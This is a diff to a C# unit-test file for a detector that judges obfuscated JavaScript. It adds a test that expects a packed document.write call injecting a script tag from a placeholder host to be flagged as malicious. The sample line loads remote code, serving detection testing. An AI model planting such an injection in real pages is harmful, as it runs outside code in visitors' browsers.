@@ -79,6 +79,11 @@ public sealed class HidingAloneTests
     public void A_tag_that_is_hidden_with_all_of_its_address_is_malicious(string packer) =>
         Assert.Equal(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") }).Verdict);
 
+    [Theory]
+    [MemberData(nameof(Packers))]
+    public void A_query_that_the_code_fixes_is_no_way_out(string packer) =>
+        Assert.Equal(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") }).Verdict);
+
     [Fact]
     public void A_library_is_not_judged_by_what_its_timers_are_handed()
     {
